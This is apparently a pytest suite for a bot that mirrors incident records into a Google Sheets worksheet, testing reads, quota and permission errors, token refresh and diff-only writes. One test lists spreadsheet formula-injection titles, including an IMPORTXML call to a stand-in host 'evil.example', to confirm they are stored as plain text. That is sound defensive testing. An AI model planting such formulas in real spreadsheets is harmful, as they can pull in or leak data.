"""The spreadsheet is read and written by gspread over a real wire; what Google refuses is a reason, no exception."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sheets_double import ID, Google, google

from bot.domain.delivery import Later, Never, Sent
from bot.domain.mirrored_sheet import COLUMNS, Row
from integrations.sheets import Sheets


@pytest.fixture
async def world() -> AsyncIterator[Google]:
    async with google() as double:
        yield double


@pytest.fixture
async def sheets(world: Google) -> AsyncIterator[Sheets]:
    found = Sheets(world.credentials(), ID, world.url)
    yield found
    found.close()


def row(number: int, title: str = "Payments API is slow") -> Row:
    times = "11-21-2026 07:00", "", ""
    return (f"INC-{number}", title, "SEV2", "ASSIGNED", "investigating", "payments-api", "Alice", "", *times, "")


def shown(row: Row) -> list[str]:
    """Without what is empty at its end."""
    return list(row[: max(n for n, cell in enumerate(row, start=1) if cell)])


async def test_both_worksheets_are_read_in_one_request_with_one_token(world: Google, sheets: Sheets) -> None:
    world.put("schedule", [["start_time"], ["11-24-2026 09:00"]])
    world.put("contacts", [["name"]])
    for _ in range(2):
        assert await sheets.read() == ([["start_time"], ["11-24-2026 09:00"]], [["name"]])
    assert (world.calls(), world.sheets.reads) == (["token", "values.batchGet"], 2)


async def test_a_quota_that_is_used_up_is_a_reason_and_passes(world: Google, tmp_path: Path) -> None:
    key = tmp_path / "key.json"
    key.write_text(world.credentials(), encoding="utf-8")
    sheets = Sheets(str(key), ID, world.url)
    world.fault("rate_limited", "values.*")
    assert (await sheets.read(), await sheets.mirror([row(1)])) == (
        "Google answered 429", Later(reason="Google answered 429"),
    )  # fmt: skip
    world.mend()
    world.put("schedule", [])
    world.put("contacts", [])
    assert (await sheets.read(), await sheets.mirror([row(1)])) == (([], []), Sent({"rows": 2}))
    sheets.close()


async def test_credentials_that_cannot_be_read_are_a_reason(world: Google, tmp_path: Path) -> None:
    for wrong, kind in ((str(tmp_path / "none.json"), "FileNotFoundError"), ("{", "JSONDecodeError")):
        sheets = Sheets(wrong, ID, world.url)
        assert await sheets.read() == f"GOOGLE_CREDENTIALS or Google's answer cannot be read ({kind})"
        assert sheets.account() == ""
        sheets.close()
    assert world.calls() == []


async def test_incidents_get_a_worksheet_with_a_header_and_only_what_differs_is_written(
    world: Google, sheets: Sheets
) -> None:
    assert await sheets.mirror([row(1), row(2)]) == Sent({"rows": 3})
    assert world.shown("incidents") == [list(COLUMNS), shown(row(1)), shown(row(2))]
    world.put("incidents", [list(COLUMNS), shown(row(2)), [], ["INC-1", "moved by hand", *[""] * 10, "our note"]])
    made = len(world.calls())
    assert await sheets.mirror([row(1), row(2), row(3)]) == Sent({"rows": 2})
    assert world.shown("incidents") == [
        list(COLUMNS), shown(row(2)), [], [*row(1), "our note"], shown(row(3)),
    ]  # fmt: skip
    assert world.calls()[made:] == ["spreadsheets.get", "values.get", "values.batchUpdate"]
    assert await sheets.mirror([row(1), row(2), row(3)]) == Sent({"rows": 0})


async def test_a_title_is_never_a_formula(world: Google, sheets: Sheets) -> None:
    titles = ['=IMPORTXML("https://evil.example","//a")', "+1", "-1", "@x", "'quoted", "12"]
    await sheets.mirror([row(number, title) for number, title in enumerate(titles, start=1)])
    assert [cells[1] for cells in world.shown("incidents")[1:]] == titles


async def test_the_grid_grows_before_it_is_full(world: Google, sheets: Sheets) -> None:
    await sheets.mirror([row(1)])
    sheet = world.sheets.book.named("incidents")
    assert sheet is not None
    sheet.resize(2, 12)
    await sheets.mirror([row(1), row(2), row(3)])
    assert world.shown("incidents") == [list(COLUMNS), *(shown(row(number)) for number in (1, 2, 3))]


async def test_what_may_only_be_read_is_refused_for_good_and_the_rota_is_read_on(world: Google, sheets: Sheets) -> None:
    world.sheets.access = "reader"
    before = [(one.title, one.cells) for one in world.sheets.book.sheets]
    assert await sheets.mirror([row(1)]) == Never("Google answered 403")
    assert (await sheets.may_write(), isinstance(await sheets.read(), tuple)) == ("Google answered 403", True)
    world.sheets.access = "writer"
    assert (await sheets.may_write(), [(one.title, one.cells) for one in world.sheets.book.sheets]) == ("", before)


async def test_a_worksheet_of_that_name_that_is_somebody_elses_is_left_alone(world: Google, sheets: Sheets) -> None:
    await sheets.mirror([])
    theirs = [["date", "what we learned"], ["2026-11-20", "much"]]
    world.put("incidents", theirs)
    assert await sheets.mirror([row(1)]) == Never("the worksheet `incidents` has other columns")
    assert world.shown("incidents") == theirs


async def test_a_token_that_is_not_taken_any_more_is_asked_for_anew(world: Google, sheets: Sheets) -> None:
    await sheets.read()
    world.sheets.account.forget()
    assert await sheets.read() == "Google answered 401"
    assert (isinstance(await sheets.read(), tuple), world.calls().count("token")) == (True, 2)
